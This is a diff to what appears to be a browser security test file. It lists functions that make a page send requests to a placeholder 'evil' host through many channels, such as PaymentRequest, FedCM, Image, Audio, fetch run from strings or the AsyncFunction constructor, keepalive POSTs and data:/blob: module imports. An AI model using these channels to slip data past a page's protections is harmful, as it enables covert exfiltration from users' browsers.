@@ -50,7 +50,8 @@ export default {
     const methods = [{ supportedMethods: evil.replace("http:", "https:") + "/pay" }];
     return new PaymentRequest(methods, { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment();
   },
-  "FedCM": ({ evil }) => navigator.credentials.get({ identity: { providers: [{ configURL: evil + "/fedcm.json", clientId: "x" }] } }),
+  "FedCM": ({ evil }) =>
+    navigator.credentials.get({ identity: { providers: [{ configURL: evil + "/fedcm.json", clientId: "x" }] } }),
   "FedCM's disconnect": ({ evil }) =>
     IdentityCredential.disconnect({ configURL: evil + "/fedcm.json", clientId: "x", accountHint: "x" }),
   "a report of a policy": ({ evil }) => {
@@ -74,14 +75,10 @@ export default {
   "Image's decode": ({ evil }) => Object.assign(new Image(), { src: evil }).decode(),
   "Audio": ({ evil }) => void new Audio(evil).load(),
   "fetch in a timer's string": ({ evil }) => void setTimeout(`fetch("${evil}", { mode: "no-cors" })`),
-  "fetch of an async function": ({ evil }) => Object.getPrototypeOf(async () => {}).constructor("u", "return fetch(u, { mode: 'no-cors' })")(evil),
+  "fetch of an async function": ({ evil }) =>
+    Object.getPrototypeOf(async () => {}).constructor("u", "return fetch(u, { mode: 'no-cors' })")(evil),
   "fetch with a stream": ({ evil }) =>
     fetch(evil, { method: "POST", mode: "no-cors", body: new Blob(["x"]), keepalive: true }),
-  "Background Fetch": async ({ evil, sleep }) => {
-    const registration = await navigator.serviceWorker.register("/idle.js");
-    await sleep(300);
-    return registration.backgroundFetch.fetch("x", [evil]);
-  },
   "import of a data: module": ({ evil }) => import(`data:text/javascript,import "${evil}/x.js"`),
   "import of a blob: module": ({ blob, evil }) => import(blob(`import "${evil}/x.js"`, "text/javascript")),
   "a module of a blob: that sends": ({ blob, sends }) => import(blob(sends, "text/javascript")),
